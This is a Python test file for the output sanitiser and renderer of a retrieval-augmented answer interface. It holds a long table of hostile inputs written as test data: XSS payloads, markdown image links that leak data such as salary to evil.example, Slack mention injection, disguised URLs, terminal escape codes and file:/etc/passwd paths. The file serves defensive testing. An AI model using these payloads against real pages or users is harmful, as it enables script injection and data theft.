"""What people read of an answer, and what can never become more than words."""

import json
import re
import time
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from random import Random

import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token

from rag.base import Quote
from tests.ui.fake_answers import NOW, abstained, answered, chunks, citation, document, replied
from ui import page
from ui.conversation import Turn
from ui.gate import safe_text
from ui.render import (
    age,
    answer_text,
    confidence_words,
    is_web_url,
    kind_label,
    source_label,
    source_url,
    to_json,
    to_terminal,
    viewer_path,
)

LEAVE = chunks(
    document("wiki:leave", "Leave"),
    [
        ("Leave › Annual leave", "Everyone has 25 days of leave a year. They do not expire."),
        ("Leave › Parental leave", "Parents take 16 weeks at full pay."),
    ],
)
FIRST = citation(LEAVE[0], "Everyone has 25 days of leave a year.")
SECOND = citation(LEAVE[1], "16 weeks at full pay", marker=2)
CLOSE = citation(LEAVE[1], "", marker=3)

# (hostile text, what is left of it), the right column written by hand
HOSTILE = [
    # Markdown links and images
    ("[Log in](https://evil.example/x)", "Log in"),
    ("Take 25 days [1](https://evil.example/?q=secret).", "Take 25 days [1]."),
    ('[a](https://evil.example "title")', "a"),
    ("[a](<https://evil.example/a b>)", "a"),
    ("[a](//evil.example)", "a"),
    ("[a](javascript:alert(1))", "a"),
    ("[a](/document/x)", "a"),
    ("[a](\nhttps://evil.example\n)", "a"),
    ("[a](https://evil.example/(b))", "a"),
    ("![](https://evil.example/pixel.png?d=salary)", ""),
    ("![chart](https://evil.example/pixel.png)", "chart"),
    ("[![chart](https://evil.example/a.png)](https://evil.example)", "chart"),
    ("![a][ref]", "! [a][ref]"),
    ("[a]: https://evil.example", "[a] : evil[.]example"),
    ("[1]: https://evil.example 'x'\n\nYes [1]", "[1] : evil[.]example 'x'\n\nYes [1]"),
    ("[a](https://evil.exam", "[a] (evil[.]exam"),
    ("[[a](https://evil.example)](https://evil.example)", "a"),
    ("[a]\u200b(https://evil.example)", "a"),
    # Autolinks and bare addresses
    ("<https://evil.example>", "‹evil[.]example›"),
    ("<ann@evil.example>", "‹ann@evil[.]example›"),
    ("https://evil.example/path", "evil[.]example/path"),
    ("HTTPS://EVIL.EXAMPLE", "EVIL[.]EXAMPLE"),
    ("http:\\\\evil.example", "evil[.]example"),
    ("http:/evil.example", "evil[.]example"),
    ("see //evil.example/x", "see //evil[.]example/x"),
    ("www.evil.example", "www[.]evil[.]example"),
    ("go to evil.example now", "go to evil[.]example now"),
    ("evil.example:8080/x", "evil[.]example:8080/x"),
    (".evil.example", ".evil[.]example"),
    ("mailto:ann@evil.example", "ann@evil[.]example"),
    ("ftp://evil.example", "evil[.]example"),
    ("slack://user?team=T1", "user?team=T1"),
    ("tel:+3291234567", "+3291234567"),
    ("https://user:pw@evil.example", "user:pw@evil[.]example"),
    ("budget.zip", "budget[.]zip"),
    ("evil.Example", "evil. Example"),
    # Addresses in disguise
    ("https：//evil.example", "evil[.]example"),
    ("ｈｔｔｐｓ：／／evil。example", "evil[.]example"),
    ("evil。example", "evil[.]example"),
    ("ev\u200bil.exa\u00admple", "evil[.]example"),
    ("ht\u2060tps:/\u200d/evil.example", "evil[.]example"),
    ("\u202eelpmaxe.live//:sptth", "elpmaxe[.]live//:sptth"),
    ("https&#58;//evil&period;example", "evil[.]example"),
    ("&amp;lt;b&amp;gt;x", "x"),
    ("hhttps://ttps://evil.example", "evil[.]example"),
    ("пример.рф", "пример[.]рф"),
    ("xn--e1afmkfd.xn--p1ai", "xn--e1afmkfd[.]xn--p1ai"),
    # HTML and script
    ("<script>alert(1)</script>", "alert(1)"),
    ("<img src=x onerror=alert(1)>", ""),
    ("<img src=x onerror=alert(1)", "‹img src=x onerror=alert(1)"),
    ("<IMG SRC=javascript:alert(1)>", ""),
    ("<svg/onload=alert(1)>", ""),
    ("<a href='https://evil.example'>here</a>", "here"),
    ("<scr<b>ipt>alert(1)</scr</b>ipt>", "alert(1)"),
    ("<!-- remark -->shown", "‹!-- remark --›shown"),
    ("<!DOCTYPE html>", "‹!DOCTYPE html›"),
    ("<?php x ?>", "‹?php x ?›"),
    ("<x-evil onclick=alert(1)>", "‹x-evil onclick=alert(1)›"),
    ("&lt;iframe src=//evil.example&gt;", ""),
    ("&#60;script&#62;alert(1)&#60;/script&#62;", "alert(1)"),
    ("&#x3c;b&#x3e;x", "x"),
    ("javascript:alert(1)", "alert(1)"),
    ("java&#115;cript:alert(1)", "alert(1)"),
    ("javajavascript:script:alert(1)", "alert(1)"),
    ("data:text/html;base64,PHN2Zz4=", "text/html;base64,PHN2Zz4="),
    ("vbscript:x", "x"),
    # Slack
    ("<https://evil.example|your payslip>", "your payslip"),
    ("<!channel> read this", "‹!channel› read this"),
    ("<!here|here>", "here"),
    ("<!subteam^S012|@hr>", "hr"),
    ("<@U012ABC>", "‹U012ABC›"),
    ("<#C012|general>", "general"),
    ("<!date^1392734382^{date}^https://evil.example|x>", "x"),
    ("@channel look", "channel look"),
    ("@here", "here"),
    ("hey @ann", "hey ann"),
    ("&lt;!everyone&gt;", "‹!everyone›"),
    # Markup
    ("**bold** and __strong__", "bold and strong"),
    ("_slanted_, ~~struck~~", "slanted, struck"),
    ("`code`", "code"),
    ("```\nblock\n```", "block"),
    ("# Heading", "Heading"),
    ("> quoted", "quoted"),
    ("Title\n=====", "Title"),
    ("Title\n-", "Title"),
    ("a\n\n---\n\nb", "a\n\nb"),
    ("- item\n* item", "• item\n• item"),
    ("| a | b |\n|---|---|\n| 1 | 2 |", "| a | b |\n\n| 1 | 2 |"),
    ("    indented", "indented"),
    # Control characters
    ("\x1b]8;;https://evil.example\x1b\\here\x1b]8;;\x1b\\", "]8;;evil[.]example\\here]8;;\\"),
    ("\x1b[31mred", "[31mred"),
    ("a\x00b\x08c", "abc"),
    ("\U000e0069\U000e0067\U000e006eok", "ok"),
    ("a\ud800b", "ab"),
]

HARMLESS = [
    "Everyone has 25 days of leave a year. [1] They do not expire. [1][2]",
    "Version 2.1.0 came out at 10.30, e.g. for gen 3 (i.e. Rootline).",
    "Open budget.xlsx or settings.toml.",
    "If x < 3 and y > 5, then a -> b; P&L, Q&A, AT&T.",
    "Set MAX_RETRIES in C:\\Users\\ann; costs are 50 % (€ 3.50).",
    "¿Dónde está? 東京、大阪。 Straße “so” ‘so’ … 👍🏽",
    "می‌خواهم",
    "Line one.\nLine two.\n\nParagraph.",
    "Set the profile:admin key, metadata:owner, user_data:ann, meta-data:x or Hotel:Ghent.",
    "The log is at logfile:/var/log.",
    "Press *67 or *68, then (*1/*2).",
    "Allowed: *.docx and *.xlsx",
    "Price* and cost* are without tax.",
    "Fields _id and _rev are the server's.",
    "Of service > 5 years: 30 days",
]


def markup_in(text: str) -> set[str]:
    """Return what an independent CommonMark parser makes of a text, besides paragraphs."""

    def kinds(tokens: list[Token]) -> set[str]:
        found = {token.type for token in tokens}
        for token in tokens:
            found |= kinds(token.children or [])
        return found

    plain = {"paragraph_open", "paragraph_close", "inline", "text", "softbreak", "hardbreak"}
    return kinds(MarkdownIt("commonmark").enable("table").parse(text)) - plain - {"text_special"}


LINKABLE = re.compile(
    r"\w:[/\\]{2}|\bwww\.|\w\.(?:example|zip|рф|xn--)|mailto:|javascript:|<[@#!a-z/]|(?<!\w)@\w",
    re.IGNORECASE,
)


def test_the_table_is_long_enough() -> None:
    assert len({hostile for hostile, _ in HOSTILE}) >= 60


@pytest.mark.parametrize(("hostile", "left"), HOSTILE)
def test_hostile_text_is_only_words_afterwards(hostile: str, left: str) -> None:
    assert safe_text(hostile) == left
    assert markup_in(left) == set()
    assert LINKABLE.search(left) is None


@pytest.mark.parametrize("hostile", [hostile for hostile, _ in HOSTILE])
def test_the_gate_has_nothing_left_to_do_a_second_time(hostile: str) -> None:
    once = safe_text(hostile)
    assert safe_text(once) == once


def test_two_hostile_texts_joined_are_no_more_than_either() -> None:
    for left, _ in HOSTILE:
        for right, _ in HOSTILE:
            joined = safe_text(left + right)
            assert LINKABLE.search(joined) is None, (left, right, joined)
            assert markup_in(joined) <= {"list_item_open", "list_item_close"}, (left, right, joined)


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert safe_text(text) == text


def test_placeholders_of_a_document_stay_readable() -> None:
    assert safe_text("Mail <your name> to <ticket-id>") == "Mail ‹your name› to ‹ticket-id›"
    assert safe_text("Use <section>, then &lt;label&gt;") == "Use ‹section›, then ‹label›"


def test_elements_that_are_closed_or_hold_anything_are_no_placeholders() -> None:
    assert safe_text("<section>Leave</section>") == "Leave"
    assert safe_text("<SECTION>Leave</sec<b>tion>") == "Leave"
    assert safe_text("<section onclick=alert(1)>Leave") == "Leave"
    assert safe_text("<p>Leave<br><script>alert(1)") == "Leavealert(1)"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("> 5 years of service | 30 days", "› 5 years of service | 30 days"),
        (">5 years\n>= 10 years\n> €300", "›5 years\n≥ 10 years\n› €300"),
        ("> > 5 years", "› 5 years"),
        ("> quoted\n>> twice", "quoted\ntwice"),
    ],
)
def test_more_than_a_number_is_no_quotation(text: str, shown: str) -> None:
    assert safe_text(text) == shown
    assert markup_in(shown) == set()


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("*a **b** c*", "a b c"),
        ("***all*** of *it*, **Note:** too", "all of it, Note: too"),
        ("*67 is *bold*", "*67 is bold"),
        ("**one\nline** and *another", "one\nline and *another"),
        ("a*b*c, *क्*ष", "abc, क्ष"),
        ("__init__ and MAX_RETRIES__2", "init and MAX_RETRIES__2"),
    ],
)
def test_marks_go_only_where_they_stand_around_words(text: str, shown: str) -> None:
    assert safe_text(text) == shown
    assert markup_in(shown) == set()


def test_no_mix_of_marks_and_words_leaves_emphasis() -> None:
    pieces = ["*", "**", "_", "a", "7", " ", ".", "€", "\u0902", "\n"]
    random = Random(7)
    for _ in range(3000):
        text = "a" + "".join(random.choices(pieces, k=12))
        assert markup_in(safe_text(text)) & {"em_open", "strong_open"} == set(), repr(text)


@pytest.mark.parametrize(
    "hidden",
    [
        "javadata:script:alert(1)", "xjavascript:alert(1)", "-data:text/html,x", "(tel:+32)",
        "__data:text/html,x__", "*data*:text/html,x", "da<b>ta:text/html,x", "x mailto:hr",
        "ftp:/evil", "file:/etc/passwd", "1. file:x", "\u201cdata:text/html,x\u201d",
    ],
)  # fmt: skip
def test_a_scheme_that_stands_alone_never_passes(hidden: str) -> None:
    assert not re.search(r"\b(?:javascript|data|tel|mailto|file|ftp):\S", safe_text(hidden))


@pytest.mark.parametrize(
    "piece",
    ["[", "[](", "a.", "*a ", "<", "_a_", "&amp;", "-", "~a", "((", "<!--", "<a ", "@", "a:"],
)
def test_no_text_keeps_the_gate_busy(piece: str) -> None:
    started = time.process_time()
    safe_text(piece * (12_000 // len(piece)))
    assert time.process_time() - started < 1


def test_deep_nesting_ends_and_leaves_no_link() -> None:
    text = "[" * 40 + "a" + "](https://evil.example)" * 40
    assert markup_in(safe_text(text)) == set()


@pytest.mark.parametrize(
    ("days", "words"),
    [
        (-3, "today"),
        (0, "today"),
        (1, "yesterday"),
        (3, "3 days ago"),
        (29, "29 days ago"),
        (30, "1 month ago"),
        (61, "2 months ago"),
        (364, "12 months ago"),
        (365, "1 year ago"),
        (800, "2 years ago"),
    ],
)
def test_age_is_counted_in_days_months_and_years(days: int, words: str) -> None:
    assert age(NOW - timedelta(days=days), NOW) == words


def test_a_page_of_late_last_night_is_of_yesterday() -> None:
    midnight = datetime(2026, 11, 20, 0, 5, tzinfo=UTC)
    assert age(midnight - timedelta(minutes=10), midnight) == "yesterday"


def test_confidence_is_said_in_words() -> None:
    sure = answered("Yes. [1]", [FIRST])
    assert confidence_words(sure) == "Well supported"
    assert confidence_words(replace(sure, confidence=0.85)) == "Well supported"
    assert confidence_words(replace(sure, confidence=0.84)) == "Partly supported"
    assert confidence_words(abstained("No.")) == "Not found"


def test_an_abstention_is_not_found_however_confident() -> None:
    assert confidence_words(replace(abstained("No."), confidence=0.99)) == "Not found"


def test_kinds_have_names() -> None:
    assert [kind_label(kind) for kind in ("wiki", "slack", "drive", "crm", "")] == [
        "Wiki",
        "Slack",
        "Drive",
        "Crm",
        "Document",
    ]


def test_a_source_is_named_once() -> None:
    assert source_label(FIRST, NOW) == "Leave › Annual leave · Wiki · updated 3 days ago"


def test_a_source_without_sections_has_its_page() -> None:
    paged = replace(FIRST, title="Contract", heading="", page=3, kind="drive", updated_at=NOW)
    assert source_label(paged, NOW) == "Contract · p. 3 · Drive · updated today"


def test_a_title_cannot_bring_markup_or_lines() -> None:
    hostile = replace(FIRST, title="<b>Pay</b>\n[x](https://evil.example)", heading="")
    assert source_label(hostile, NOW) == "Pay x · Wiki · updated 3 days ago"


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "data:text/html,x",
        "//evil.example",
        "/etc/passwd",
        "file:///handbook/leave.md",
        "",
        "https://",
        "https:///x",
        "https://ann@evil.example",
        "https://a\u202eb.example",
        "https://a.example/ x",
        "https://a.example/\nx",
        'https://a.example/"onclick=',
        "https://a.example/<b>",
        "https://[::1",
        " https://a.example",
        "ftp://a.example",
    ],
)
def test_what_is_no_web_page_opens_in_the_viewer(url: str) -> None:
    assert not is_web_url(url)
    assert source_url(replace(FIRST, url=url)) == "/document/wiki:leave?at=0-37#quote"


@pytest.mark.parametrize(
    "url", ["https://wiki.fernhill.example/leave#annual", "http://10.0.0.1:8080/a?b=c&d=(e)"]
)
def test_a_web_page_is_linked_as_it_is(url: str) -> None:
    assert source_url(replace(FIRST, url=url)) == url


def test_the_viewer_opens_a_closest_page_at_its_passage_and_marks_nothing() -> None:
    assert source_url(replace(CLOSE, url="")) == "/document/wiki:leave?at=59-59#quote"


def test_an_id_cannot_leave_the_viewers_path() -> None:
    path = viewer_path('files:a b/"><script>?x#y%2e', Quote("", 1, 2))
    assert path == "/document/files:a%20b/%22%3E%3Cscript%3E%3Fx%23y%252e?at=1-2#quote"


def test_a_marker_without_a_citation_is_not_shown() -> None:
    answer = answered("Take 25 days. [1] Ask HR. [7]", [FIRST])
    assert answer_text(answer) == "Take 25 days. [1] Ask HR."
    assert answer_text(abstained("I did not find it [1].")) == "I did not find it."


@pytest.mark.parametrize(
    "forged",
    ["&#91;2&#93;", "[\u200b2]", "[[9]2]", "&#91;[9]2]", "[&#50;]", "\ue0002\ue001", "[[[1]2]"],
)
def test_what_only_the_gate_makes_a_marker_is_not_shown(forged: str) -> None:
    answer = answered(f"Ann {forged} may. [1] Bob may. [2]", [FIRST, SECOND])
    assert re.findall(r"\[\d+\]", answer_text(answer)).count("[2]") == 1
    assert '<button type="button" class="chip"' in page.turns([Turn("?", answer)], NOW)


def test_json_has_every_field_and_verbatim_quotes() -> None:
    shape = to_json(answered("25 days. [1]", [FIRST], [CLOSE]))
    assert json.loads(json.dumps(shape)) == {
        "id": "a1",
        "status": "answered",
        "text": "25 days. [1]",
        "confidence": 0.93,
        "confidence_words": "Well supported",
        "citations": [
            {
                "marker": 1,
                "document_id": "wiki:leave",
                "chunk_id": "wiki:leave#0",
                "title": "Leave",
                "heading": "Leave › Annual leave",
                "page": None,
                "url": "https://wiki.fernhill.example/leave",
                "kind": "wiki",
                "updated_at": "2026-11-17T09:00:00+00:00",
                "quotes": [
                    {"text": "Everyone has 25 days of leave a year.", "start": 0, "end": 37}
                ],
                "passage": {
                    "text": "Everyone has 25 days of leave a year. They do not expire.",
                    "start": 0,
                    "end": 57,
                },
            }
        ],
        "closest": [
            {
                "marker": 3,
                "document_id": "wiki:leave",
                "chunk_id": "wiki:leave#1",
                "title": "Leave",
                "heading": "Leave › Parental leave",
                "page": None,
                "url": "https://wiki.fernhill.example/leave",
                "kind": "wiki",
                "updated_at": "2026-11-17T09:00:00+00:00",
                "quotes": [],
                "passage": {
                    "text": "Parents take 16 weeks at full pay.",
                    "start": 59,
                    "end": 93,
                },
            }
        ],
        "closest_words": "Also found (not confirmed)",
        "model": "small",
        "generation": "000001",
        "timings": {"retrieved_s": 0.02, "first_token_s": 0.15, "complete_s": 0.6},
    }


LIKE_AN_ANSWER = replace(
    abstained("I did not find it [1].", [CLOSE]), citations=(FIRST, SECOND), confidence=0.99
)


def test_a_refusal_shows_no_source_whatever_it_holds() -> None:
    as_json = to_json(LIKE_AN_ANSWER)
    assert (as_json["citations"], as_json["text"]) == ([], "I did not find it.")
    assert as_json["closest_words"] == "Closest pages (not confirmed)"
    shown = to_terminal(LIKE_AN_ANSWER, NOW)
    assert re.search(r"Sources|25 days|^\[?1", shown, re.MULTILINE) is None
    before, _, after = shown.partition("not confirmed")
    assert "Parental leave" not in before
    assert "Parental leave" in after


def test_small_talk_is_one_sentence_without_sources_or_confidence() -> None:
    hello = replace(replied("Hello!"), citations=(FIRST,), closest=(CLOSE,))
    assert to_terminal(hello, NOW) == "Hello!"
    as_json = to_json(hello)
    assert (as_json["status"], as_json["text"], as_json["model"]) == ("replied", "Hello!", None)
    assert (as_json["confidence"], as_json["confidence_words"]) == (None, "")
    assert (as_json["citations"], as_json["closest"], as_json["closest_words"]) == ([], [], "")


def test_json_says_no_model_when_there_was_no_attempt() -> None:
    assert to_json(replace(abstained("No."), attempts=()))["model"] is None


def test_the_terminal_shows_answer_confidence_sources_and_quotes() -> None:
    answer = answered("25 days. [1] Parents: 16 weeks. [2]", [FIRST, replace(SECOND, url="")])
    assert to_terminal(answer, NOW) == (
        "25 days. [1] Parents: 16 weeks. [2]\n"
        "\n"
        "Well supported\n"
        "\n"
        "Sources\n"
        "[1] Leave › Annual leave · Wiki · updated 3 days ago\n"
        "    https://wiki.fernhill.example/leave\n"
        "    “Everyone has 25 days of leave a year.”\n"
        "[2] Leave › Parental leave · Wiki · updated 3 days ago\n"
        "    wiki:leave\n"
        "    “16 weeks at full pay”"
    )


def test_the_terminal_offers_three_closest_pages_unconfirmed() -> None:
    files = replace(CLOSE, url="file:///handbook/leave.md")
    shown = to_terminal(abstained("I did not find this.", [files] * 5), NOW)
    assert shown.startswith(
        "I did not find this.\n\nNot found\n\nClosest pages (not confirmed)\n"
        "  - Leave › Parental leave · Wiki · updated 3 days ago\n"
        "    file:///handbook/leave.md\n"
    )
    assert shown.count("Parental leave") == 3
    assert "[" not in shown


def test_the_terminal_gets_no_control_characters() -> None:
    hostile = replace(
        FIRST, title="\x1b[2J", url="https://a\x1b.example", quotes=(Quote("\x1b[31mred", 0, 8),)
    )
    assert "\x1b" not in to_terminal(answered("\x1b[0m [1]", [hostile]), NOW)
